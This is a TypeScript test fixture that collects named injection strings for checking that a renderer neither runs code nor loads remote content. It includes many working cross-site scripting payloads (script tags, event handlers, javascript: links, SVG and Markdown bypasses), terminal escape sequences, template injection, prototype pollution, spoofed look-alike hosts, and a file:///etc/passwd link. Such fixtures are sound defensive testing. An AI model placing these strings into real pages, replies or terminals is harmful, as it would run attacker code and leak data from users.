// Texts that try to run code in the page, to load something, or to lead astray. An agent or a stranger can put each of
// them into a reply, a path, a name or an error.

/** One text, and what it tries. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** Says that code has run. */
const RUN = 'globalThis.owned=1';
const ESC = '\x1b';

/** What tries to become an element. */
const HTML: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script with a source': '<script src="{away}/script.js"></script>',
  'script after a title': `</title><script>${RUN}</script>`,
  'script after a text area': `</textarea></p></div><script>${RUN}</script>`,
  'script after a comment': `--><script>${RUN}</script><!--`,
  'script in CDATA': `]]><script>${RUN}</script>`,
  'script with upper case and a slash': `<SCRIPT/x>${RUN}</SCRIPT/x>`,
  'script as a module': `<script type="module">import "{away}/module.js"</script>`,
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["{away}/guess"]}]}</script>',
  picture: `<img src="{away}/picture.png" onerror="${RUN}" onload="${RUN}">`,
  'picture without quotes': `<img src=x onerror=${RUN}>`,
  'picture that is broken off': `<img src=x onerror="${RUN}"`,
  'picture set': '<picture><source srcset="{away}/set.png 1x"><img srcset="{away}/set2.png 2x"></picture>',
  svg: `<svg onload="${RUN}"><use href="{away}/use.svg#x"/></svg>`,
  'svg script': `<svg><script href="{away}/svg.js"/><script>${RUN}</script></svg>`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">x</text></a></svg>`,
  'svg with others': `<svg><foreignObject><iframe srcdoc="<script>parent.owned=1</script>"/></foreignObject></svg>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  frame: '<iframe src="{away}/frame"></iframe>',
  'frame of a text': `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  'frame of code': `<iframe src="javascript:parent.owned=1"></iframe>`,
  object: '<object data="{away}/object"></object><embed src="{away}/embed">',
  media: `<video src="{away}/video" poster="{away}/poster" onerror="${RUN}"></video><audio src="{away}/audio">`,
  'style sheet': '<link rel="stylesheet" href="{away}/style.css"><style>@import "{away}/import.css"</style>',
  'early connection': '<link rel="preconnect" href="{away}"><link rel="dns-prefetch" href="//evil.example">',
  base: '<base href="{away}/">',
  'another page': '<meta http-equiv="refresh" content="0;url={away}/refresh">',
  'own policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  form: `<form action="{away}/form"><input name="x" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">`,
  'open details': `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'events of other elements': `<marquee onstart="${RUN}"><x onpointerenter="${RUN}" tabindex=1 onfocus="${RUN}">`,
  template: `<template><img src="{away}/t.png"></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'link of code': `<a href="javascript:${RUN}">x</a><a href="{away}" ping="{away}/ping">x</a>`,
  'style attribute': '<p style="background:url({away}/background.png)">x</p>',
  'end of the page': `</body></html><body onload="${RUN}">`,
};

/** What tries to become an element by way of Markdown. */
const MARKDOWN: Readonly<Record<string, string>> = {
  'picture of Markdown': '![a]({away}/markdown.png "x")',
  'picture by a reference': '![a][p]\n\n[p]: {away}/reference.png',
  'picture in a link': '[![a]({away}/inner.png)]({away}/outer)',
  'picture of code': `![a](javascript:${RUN})`,
  'link of Markdown to code': `[a](javascript:${RUN})`,
  'code in capitals': `[a](JaVaScRiPt:${RUN})`,
  'code with a tab': `[a](<java\tscript:${RUN}>)`,
  'code with an entity': `[a](&#106;avascript&colon;${RUN})`,
  'code with a space before': `[a](<\u0001javascript:${RUN}>)`,
  'code in an address in brackets': `<javascript:${RUN}>`,
  'other schemes': `[a](vbscript:x) [b](data:text/html,<script>${RUN}</script>) [c](file:///etc/passwd) [d](blob:x)`,
  'address without a scheme': '[a](//evil.example/x) [b](\\\\evil.example\\x) [c](/api/sessions)',
  'title that breaks out': `[a]({away}/x "\\" onmouseover=\\"${RUN}")`,
  'address that breaks out': `[a]({away}/"onmouseover="${RUN})`,
  'address with a name before': '[https://github.com](https://github.com@evil.example/x)',
  'address like another': '<https://github.com@evil.example/x> https://gіthub.com/x',
  'table of elements': `| <img src=x onerror=${RUN}> |\n| --- |\n| <script>${RUN}</script> |`,
  'list of elements': `- [x] <img src=x onerror=${RUN}>\n- [ ] pay\u200bpal" onfocus="${RUN}" autofocus="`,
  'language of code': `\`\`\`html"onmouseover="${RUN}"\n<img src=x onerror=${RUN}>\n\`\`\``,
  'heading with an id': `# a {#x onclick=${RUN}} <a name="x" onclick="${RUN}">`,
};

/** What tries other ways in. */
const OTHERS: Readonly<Record<string, string>> = {
  'link of a terminal': `${ESC}]8;;javascript:${RUN}${ESC}\\code${ESC}]8;;${ESC}\\ ${ESC}]8;;{away}/8\x07away`,
  'title, clipboard and picture of a terminal':
    `${ESC}]0;owned\x07${ESC}]52;c;b3duZWQ=\x07${ESC}]1337;File=inline=1:AAAA\x07` + `${ESC}Pq#0~${ESC}\\`,
  'template of a framework': `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  'property of a framework': `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"},"__proto__":{"x":1}}`,
  'direction and hidden letters': 'safe\u202egnp.exe\u2066 pay\u200bpal \ufeff\u{e0041}\u00ad',
};

/** All of them, with the address of a server that must never be asked. */
export function payloadsFor(away: string): readonly Payload[] {
  return Object.entries({ ...HTML, ...MARKDOWN, ...OTHERS }).map(([name, text]) => ({
    name,
    text: text.replaceAll('{away}', away),
  }));
}
